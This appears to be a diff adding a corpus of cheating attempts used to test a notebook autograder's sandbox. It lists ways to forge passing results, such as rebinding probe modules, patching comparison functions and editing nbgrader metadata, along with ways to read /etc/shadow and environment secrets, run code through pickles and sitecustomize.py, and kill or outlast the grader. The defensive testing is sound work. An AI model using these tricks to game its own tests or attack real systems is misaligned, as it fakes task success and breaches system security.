+           "hw2probes.collect rebound to return {'result': 'passed'} for every check",
+           "the check's data",
+           cells=((TOP, "import hw2probes\nhw2probes.collect = lambda part, check, objects: {'result': 'passed'}"),)),
+    Attack("probes_return_fakes", "rebinding", NB1,
+           "every probe_* of hw2probes.part1 replaced by one returning a path of no steps",
+           "the check's data", cells=((TOP, code("""
+               import hw2probes.part1 as _part1
+               for _name in [n for n in dir(_part1) if n.startswith("probe_")]:
+                   setattr(_part1, _name, lambda *objects: [{"calls": 0, "xs": []}])
+               """)),)),
+    Attack("fake_hw2probes_in_working_folder", "rebinding", NB1,
+           "overwrites the scratch folder's hw2probes/__init__.py with a record() that writes "
+           "'all checks passed' as the data", "the check's data", cells=((TOP, PLANT_IN_WORKING_FOLDER),)),
+    Attack("fake_hw2probes_on_sys_path", "rebinding", NB1,
+           "plants a fake hw2probes package in tmp/ and puts it first on sys.path",
+           "the check's data", cells=((TOP, PLANT_ON_SYS_PATH),)),
+    Attack("fake_autograder_package", "rebinding", NB1,
+           "plants an autograder package whose checks and judges all pass, in the working folder "
+           "and on sys.path, hoping the grader imports it", None, cells=((TOP, FAKE_AUTOGRADER),)),
+    Attack("probe_module_edited", "rebinding", NB1,
+           "appends to the scratch copy of hw2probes/part1.py probes that return {'passed': True}",
+           "the check's data", cells=((TOP, EDIT_PROBE_MODULE),)),
+    Attack("shadowed_dunder_import", "rebinding", NB1,
+           "a global __import__ in the notebook's namespace hands the probe call a fake hw2probes",
+           "the check's data", cells=((TOP, SHADOW_IMPORT),)),
+    # IPython machinery -------------------------------------------------------------------------
+    Attack("input_transformer", "ipython", NB1, "an input transformer empties every cell naming hw2probes",
+           None, cells=((TOP, INPUT_TRANSFORMER),)),
+    Attack("ast_transformer", "ipython", NB1,
+           "an AST transformer replaces the probe call by print('all cases passed')",
+           None, cells=((TOP, AST_TRANSFORMER),)),
+    Attack("post_run_cell_forgery", "ipython", NB1,
+           "a post_run_cell event overwrites every probe file after each cell",
+           "the check's data", cells=((TOP, POST_RUN_CELL),)),
+    Attack("settrace_forgery", "ipython", NB1,
+           "sys.settrace rebinds hw2probes.to_bytes as record() starts, so forged bytes are saved",
+           "the check's data", cells=((TOP, SETTRACE),)),
+    Attack("hidden_errors", "ipython", NB1,
+           "set_custom_exc, sys.excepthook and IPython's showtraceback print 'all cases passed' "
+           "instead of any error",
+           None, cells=((TOP, HIDE_ERRORS),)),
+    # Notebook JSON -------------------------------------------------------------------------------
+    Attack("tags_skip_execution", "notebook_json", NB1,
+           "tags skip-execution and raises-exception on every test cell", "skip-execution",
+           edit=each_test_cell(_tag)),
+    Attack("test_source_edited", "notebook_json", NB1,
+           "every test cell's source replaced by print('... all cases passed')", "source edited",
+           edit=each_test_cell(_rewrite)),
+    Attack("test_cells_deleted", "notebook_json", NB1, "every test cell deleted", "missing: scores 0",
+           edit=delete_tests),
+    Attack("test_cells_made_markdown", "notebook_json", NB1, "every test cell turned into markdown",
+           "cell type changed", edit=each_test_cell(_markdown)),
+    Attack("forged_grade_cell", "notebook_json", NB1,
+           "an added cell with forged nbgrader metadata: a locked test cell worth 100 points",
+           "nbgrader metadata the release does not have", edit=add_forged_grade_cell),
+    Attack("points_and_locks_changed", "notebook_json", NB1,
+           "every test cell worth 100 times its points, unlocked, editable and deletable",
+           "nbgrader metadata changed", edit=each_test_cell(_points_and_locks)),
+    Attack("duplicated_grade_id", "notebook_json", NB1,
+           "a copy of the first test cell, worth 100 points and running nothing, placed before it",
+           "duplicated", edit=duplicate_first_test),
+    Attack("kernelspec_changed", "notebook_json", NB1, "the notebook's kernel and language set to bash",
+           "language", edit=bash_kernel),
+    Attack("forged_outputs", "notebook_json", NB1,
+           "every test cell handed in with 'all cases passed' outputs and an execution count",
+           None, edit=each_test_cell(_passed_output)),
+    # Reading what the sandbox must hide --------------------------------------------------------
+    Attack("read_the_kit", "reading", NB1,
+           "reads and lists the kit (source notebooks, hidden checks), found from sys.path, and "
+           "runs the reference's answers if it could read them", None,
+           cells=((TOP, READ_THE_KIT), *map(run_stolen, STEAL_INTO_CELLS))),
+    Attack("read_the_gradebook", "reading", NB1,
+           "walks for gradebook.db, reads the students in it and tries to set every score to the maximum",
+           None, cells=((TOP, READ_GRADEBOOK),)),
+    Attack("read_secrets", "reading", NB1,
+           "reads os.environ, /proc/*/environ, cwd, root and mem of other users' processes, /etc/shadow",
+           None, cells=((TOP, READ_SECRETS),)),
+    # Writing outside the scratch folder --------------------------------------------------------
+    Attack("write_the_kit", "writing", NB1,
+           "appends code to the kit's checks, judging.py, hw2utils.py, hw2probes, the source "
+           "notebook, a .pth and sitecustomize.py in the site-packages of the kit and of the "
+           "sandbox's interpreter; writes results.json",
+           None, cells=((TOP, WRITE_OUTSIDE),)),
+    Attack("persist_for_next_student", "writing", NB1,
+           "leaves files in /tmp, /var/tmp, /dev/shm, /run/lock and a SysV shared-memory segment "
+           "for the next student graded in its slot", None, cells=((TOP, PERSIST),)),
+    # Forged probe data -------------------------------------------------------------------------
+    Attack("probe_data_garbage", "probe_data", NB1,
+           "a last added cell overwrites every probe file with bytes that are not a torch file",
+           "the check's data", cells=((END, GARBAGE_AT_END),)),
+    Attack("probe_data_pickle", "probe_data", NB1,
+           "a last added cell saves every probe file as a pickle whose loading runs os.system as the loader",
+           "the check's data", cells=((END, PICKLE_AT_END),)),
+    Attack("probe_data_symlinks", "probe_data", NB1,
+           "a last added cell replaces every probe file by a link to /etc/shadow, the source "
+           "notebook, /dev/zero or /proc/self/environ", "the check's data", cells=((END, SYMLINKS_AT_END),)),
+    Attack("probe_data_odd_files", "probe_data", NB1,
+           "a last added cell makes the probe files a FIFO, a hard link, a sparse 900 MB file, "
+           "40 MB of noise and a folder", "the check's data", cells=((END, ODD_FILES_AT_END),)),
+    Attack("executed_notebook_symlink", "probe_data", NB1,
+           "makes executed/01_gradient_descent.ipynb a link before the runner writes it",
+           "executed notebook was unreadable", cells=((TOP, EXECUTED_SYMLINK),)),
+    # Processes and signals ---------------------------------------------------------------------
+    Attack("detached_processes", "processes", NB1,
+           "Popen(start_new_session=True) of a Python and a shell that ignore SIGTERM and sleep",
+           "outlived its notebooks", cells=((TOP, SURVIVOR),)),
+    Attack("double_fork_setsid", "processes", NB1, "fork, setsid, fork again, exec a sleeper",
+           "outlived its notebooks", cells=((TOP, DOUBLE_FORK),)),
+    Attack("rewriter_daemon", "processes", NB1,
+           "a double-forked daemon waits while notebook 2 runs, then rewrites notebook 1's executed "
+           "copy (every output 'all cases passed') and its probe files",
+           ("outlived its notebooks", "the check's data"), cells=((END, REWRITER),), also=(NB2,)),
+    Attack("kill_the_runner", "signals", NB1, "SIGKILL to its parent, the notebook runner",
+           "could not be graded", cells=((TOP, KILL_PARENT),)),
+    Attack("os_exit", "signals", NB1, "os._exit(0) in an early cell", "could not be graded",
+           cells=((TOP, OS_EXIT),)),
+    Attack("sigalrm_forgery", "signals", NB1,
+           "a SIGALRM handler every 50 ms overwrites every probe file with forged data",
+           "the check's data", cells=((TOP, SIGALRM), (END, LINGER))),
+    # Patching torch, numpy, math, builtins -----------------------------------------------------
+    Attack("patched_comparisons", "patching", NB1,
+           "torch.allclose/equal/isclose, torch.testing.assert_close, math.isclose, numpy.allclose "
+           "always true; builtins.isinstance true for torch.Tensor", None, cells=((TOP, PATCHING),)),
+    # Delegation to torch.optim -----------------------------------------------------------------
+    Attack("delegation_hidden_in_answer", "delegation", NB1,
+           "SimpleGradientDescent subclasses torch.optim.SGD found by importlib and getattr, and "
+           "restores torch.optim.Optimizer.__init__ that the probe patched",
+           "reaches torch.optim", answers=(("sgd_optimizer", HIDDEN_DELEGATION),)),
+    Attack("delegation_in_added_cell", "delegation", NB1,
+           "the answer cell left as released; an added cell after it rebinds SimpleGradientDescent "
+           "to a torch.optim.SGD subclass that restores Optimizer.__init__",
+           "reaches torch.optim", cells=(("sgd_optimizer", DELEGATION_IN_ADDED_CELL),)),
+    Attack("adam_delegation_eval", "delegation", NB2,
+           "ADAMOptimizer subclasses torch.optim.Adam reached through eval, restoring Optimizer.__init__",
+           "reaches torch.optim", answers=(("adam_optimizer", ADAM_DELEGATION),)),
+    # Resources ---------------------------------------------------------------------------------
+    Attack("fill_the_disk", "resources", NB1,
+           "writes one file until the file-size limit stops it (at most 1.2 GB), SIGXFSZ ignored",
+           None, cells=((TOP, FILL_THE_DISK),)),
+    # Handed-in files ---------------------------------------------------------------------------
+    Attack("extra_files", "handed_in", NB1,
+           "hands in sitecustomize.py and usercustomize.py that run code as root, hw2probes.py, "
+           "hw2utils.py and autograder/checks/part1.py that always pass, a .pth, a gradebook.db",
+           "ignored sitecustomize.py", base="answers",
+           files=(("sitecustomize.py", text_file(ROOT_SITECUSTOMIZE)),
+                  ("usercustomize.py", text_file(ROOT_SITECUSTOMIZE)),
+                  ("zz_hw2corpus.pth", text_file(f"import os; os.system({ROOT_PAYLOAD!r})")),
+                  ("hw2probes.py", text_file(ALWAYS_PASSING_CHECKS)),
+                  ("hw2utils.py", text_file(ALWAYS_PASSING_CHECKS)),
+                  ("autograder/checks/part1.py", text_file(ALWAYS_PASSING_CHECKS)),
+                  ("gradebook.db", text_file("not a database")))),
+    Attack("symlinked_model_file", "handed_in", NB1,
+           "hands in ec_transfer_model.pt as a link to /etc/shadow and reads it back in the kernel",
+           "a symbolic link", files=(("ec_transfer_model.pt", link_to("/etc/shadow")),),
+           cells=((TOP, READ_HANDED_IN_LINK),)),
+    Attack("pickled_model_file", "handed_in", NB4,
+           "hands in an EC1 model file whose unpickling runs os.system as the grader", None,
+           files=(("ec_transfer_model.pt", pickled_model),)),
+    Attack("model_file_written_while_graded", "handed_in", NB4,
+           "hands in no model; writes a valid ec_transfer_model.pt in the scratch folder while "
+           "graded and tries to copy it into the course's submitted folders", None,
+           cells=((TOP, WRITE_EC_MODEL),)),
+    # More than honest work, on top of the reference's answers ----------------------------------
+    Attack("answers_forged_points", "notebook_json", NB1,
+           "full marks, plus a forged 100-point test cell and every test cell worth 100 times its points",
+           "nbgrader metadata", base="answers", edit=forged_points_everywhere),
+    # Last, before the victims (tests/test_cheating_corpus.py VICTIMS), which it targets -------
+    Attack("tmp_churn", "writing", NB1,
+           "after 8 s, for 15 s makes and removes 300 files at a time in /tmp, /var/tmp and "
+           "/dev/shm, while the grader cleans up after the student graded beside it",
+           None, base="answers", cells=((END, CHURN),)),
+]
